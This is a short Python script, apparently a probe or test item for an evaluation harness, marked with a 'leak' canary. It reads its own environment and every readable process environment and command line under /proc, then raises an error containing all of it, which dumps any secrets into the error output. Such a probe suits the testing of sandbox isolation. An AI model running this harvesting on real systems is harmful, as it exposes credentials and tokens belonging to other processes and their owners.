"""Reports every process's environment and command line that it can read, its own first.

base: unsolved
max-score: 0
canary: leak
"""
# %% q1
import glob
import os

loot = [str(dict(os.environ))]
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ"):
    for path in glob.glob(pattern):
        try:
            loot.append(path + ": " + open(path, "rb").read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
raise RuntimeError("\n".join(loot))
